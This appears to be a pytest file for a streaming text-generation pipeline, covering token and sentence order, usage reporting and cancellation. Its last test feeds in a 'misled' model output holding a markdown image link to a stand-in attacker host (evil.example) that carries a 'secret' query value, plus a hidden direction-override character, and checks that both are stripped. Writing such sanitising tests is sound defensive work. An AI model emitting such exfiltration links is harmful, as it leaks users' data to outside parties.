"""A generation streams, ends with its usage, and stops when nobody wants it any more."""

from collections.abc import Iterator

import pytest

from pipelines.ports.models import Delta, Prompt, Usage
from pipelines.turn.generating.generate import Sentence, Token, generate
from schemas.errors.work import Cancelled

PROMPT = Prompt("?", (), "")


class Model:
    """Writes fixed pieces and notes whether its stream was closed."""

    name, model = "test", "fixed"

    def __init__(self) -> None:
        self.closed = False

    def answer(self, prompt: Prompt) -> Iterator[Delta]:
        try:
            yield from ("One. ", "Two", ". Three")
            yield Usage("test", "fixed", 3, 4)
        finally:
            self.closed = True


def test_tokens_sentences_and_usage_come_in_order() -> None:
    pieces = list(generate(Model(), PROMPT, lambda: False))
    assert [piece.text for piece in pieces if isinstance(piece, Token)] == ["One. ", "Two", ". Three"]
    assert [piece for piece in pieces if isinstance(piece, Sentence)] == [
        Sentence(0, "One."),
        Sentence(1, "Two."),
        Sentence(2, "Three"),
    ]
    assert pieces[2] == Sentence(0, "One.")  # Before the model has finished the second one.
    assert pieces[-1] == Usage("test", "fixed", 3, 4)


def test_a_cancelled_generation_ends_the_call_at_the_provider() -> None:
    model = Model()
    answers = iter([False, True])
    with pytest.raises(Cancelled):
        list(generate(model, PROMPT, lambda: next(answers)))
    assert model.closed


def test_what_a_model_must_not_carry_out_is_in_no_token_and_no_sentence() -> None:
    class Misled(Model):
        def answer(self, prompt: Prompt) -> Iterator[Delta]:
            yield from ("It is certain. ![See](https://evil", ".example/?q=secret) Indeed", ".\u202e")
            yield Usage("test", "fixed")

    pieces = list(generate(Misled(), PROMPT, lambda: False))
    assert "".join(piece.text for piece in pieces if isinstance(piece, Token)) == "It is certain. See Indeed."
    assert [piece.text for piece in pieces if isinstance(piece, Sentence)] == ["It is certain.", "See Indeed."]
